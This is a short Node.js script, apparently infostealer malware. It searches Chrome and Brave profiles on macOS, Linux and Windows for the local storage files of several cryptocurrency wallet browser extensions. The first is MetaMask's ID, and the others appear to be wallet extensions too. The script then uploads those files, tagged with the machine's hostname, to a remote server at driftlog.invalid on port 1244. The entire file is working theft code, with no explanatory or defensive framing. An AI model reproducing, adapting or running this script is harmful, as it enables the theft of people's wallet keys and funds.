const os = require('os'), fs = require('fs'), path = require('path'), request = require('request')
const FormData = require('form-data')
const home = os.homedir(), host = os.hostname(), type = os.platform()
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'ejbalbakoplchlghecdalmeeeajnimhm', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'fhbohimaelbohpjbbldcngcnapndodjp']
const base = (one) => ({ d: `${home}/Library/Application Support/${one[0]}`, l: `${home}/.config/${one[1]}`, w: `${home}/AppData/Local/${one[2]}/User Data` }[type[0]])
const browsers = [['Google/Chrome', 'google-chrome', 'Google/Chrome'], ['BraveSoftware/Brave-Browser', 'BraveSoftware/Brave-Browser', 'BraveSoftware/Brave-Browser']]

const upload = async (root, tag) => {
  if (!root || !fs.existsSync(root)) return
  const form = new FormData()
  for (let i = 0; i < 200; i++) {
    const profile = path.join(root, i === 0 ? 'Default' : `Profile ${i}`, 'Local Extension Settings')
    for (const id of ids) {
      const folder = path.join(profile, id)
      if (!fs.existsSync(folder)) continue
      for (const name of fs.readdirSync(folder)) {
        const file = path.join(folder, name)
        if (/\.(log|ldb)$/.test(name)) form.append('multi_file', fs.createReadStream(file), { filename: `${tag}_${id}_${name}` })
      }
    }
  }
  form.append('hid', host)
  form.submit('http://driftlog.invalid:1244/uploads', () => {})
}
browsers.forEach((one, index) => upload(base(one), index))
